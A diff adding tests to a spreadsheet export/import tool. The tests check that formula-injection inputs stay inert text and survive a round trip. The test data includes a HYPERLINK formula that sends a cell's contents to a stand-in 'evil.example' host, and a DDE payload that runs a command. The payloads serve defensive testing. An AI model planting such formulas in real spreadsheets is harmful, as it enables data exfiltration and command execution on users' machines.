@@ -154,3 +154,65 @@ def test_a_second_file_with_the_same_name_is_refused_not_merged(ws: Workspace, t
     assert result.exit_code == 3
     assert "already belongs to" in result.stderr
     assert ws.revisions.latest_text(ws.documents.pages("import:test/0002")[0].id).text == "Antwort A"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick") Die Reformation begann 1517.',
+            "=cmd|' /C calc'!A0 Die Reformation begann 1517.", "+1+1 Die Reformation begann 1517.",
+            "-1 Die Reformation begann 1517.", "@SUM(A1) Die Reformation begann 1517.",
+            "'=1+1 Die Reformation begann 1517.", "''@x Die Reformation begann 1517.", "'plain Die Reformation begann 1517."]
+
+
+def test_formula_characters_are_never_live_in_sheets_and_round_trip(ws: Workspace, tmp_path: Path, cli) -> None:
+    from openpyxl import load_workbook
+
+    from export.formats import csv_bytes, xlsx_bytes
+
+    rows = [{"document_id": "=HYPERLINK(\"x\")/0001", "revision": 1, "prompt": p, "completion": "\t=1+1"} for p in FORMULAS]
+    sheet = load_workbook(__import__("io").BytesIO(xlsx_bytes(rows))).active
+    assert {c.data_type for row in sheet.iter_rows() for c in row} == {"s"}
+    assert [c.value for c in sheet["C"][1:]] == FORMULAS
+    cells = [cell for line in csv_bytes(rows).decode().splitlines()[1:] for cell in line.split(",")]
+    assert not [c for c in cells if c.lstrip('"')[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    source = tmp_path / "evil.xlsx"  # xlsx: cells exactly as written (a CSV's leading ' is read as a quote)
+    source.write_bytes(xlsx_bytes([{"prompt": p, "completion": LOOSE_TEXT} for p in FORMULAS]))
+    assert cli("export", "import", source, "--workspace", ws.root).exit_code == 0
+    for name in ("a.csv", "a.xlsx"):
+        assert cli("export", name.split(".")[1], tmp_path / name, "--workspace", ws.root).exit_code == 0
+        other = tmp_path / f"ws-{name}"
+        assert cli("export", "import", tmp_path / name, "--workspace", other).exit_code == 0
+        again = tmp_path / f"again-{name}"
+        assert cli("export", name.split(".")[1], again, "--workspace", other).exit_code == 0
+        assert sorted(r["prompt"] for r in read_table(again).rows) == sorted(FORMULAS), name
+
+
+def test_an_unreadable_revision_number_is_one_line_naming_file_and_row(exam_ws: Workspace, tmp_path: Path, cli) -> None:
+    sheet = tmp_path / "a.csv"
+    assert cli("export", "csv", sheet, "--workspace", exam_ws.root).exit_code == 0
+    frame = pd.read_csv(sheet, dtype=str, keep_default_na=False)
+    frame.loc[0, "revision"], frame.loc[1, "revision"], frame.loc[2, "revision"] = "²", "9" * 5000, "-1"
+    frame.to_csv(sheet, index=False)
+    result = cli("export", "import", sheet, "--workspace", exam_ws.root)
+    assert result.exit_code == 3 and "internal error" not in result.output, result.output
+    for row in (2, 3, 4):
+        assert f"{sheet}:{row}: " in result.stderr and "no revision number" in result.stderr
+
+
+def test_a_large_import_shows_its_progress_on_stderr(ws: Workspace, tmp_path: Path, cli) -> None:
+    sheet = tmp_path / "viele.csv"
+    pd.DataFrame({"prompt": [f"Die Reformation begann 1517. ({i})" for i in range(30)],
+                  "completion": [LOOSE_TEXT] * 30}).to_csv(sheet, index=False)
+    result = cli("export", "import", sheet, "--workspace", ws.root)
+    assert result.exit_code == 0, result.output
+    assert "importing viele.csv: 30/30" in result.stderr and "importing" not in result.stdout
+
+
+def test_a_control_character_xlsx_cannot_hold_is_named_not_an_internal_error() -> None:
+    import pytest
+
+    from examkit.errors import UserInputError
+    from export.formats import xlsx_bytes
+
+    rows = [{"document_id": "LK/anna", "revision": 3, "prompt": "Die Refor\x01mation", "completion": "x"}]
+    with pytest.raises(UserInputError, match=r"LK/anna: the prompt holds a control character \(U\+0001\)"):
+        xlsx_bytes(rows)
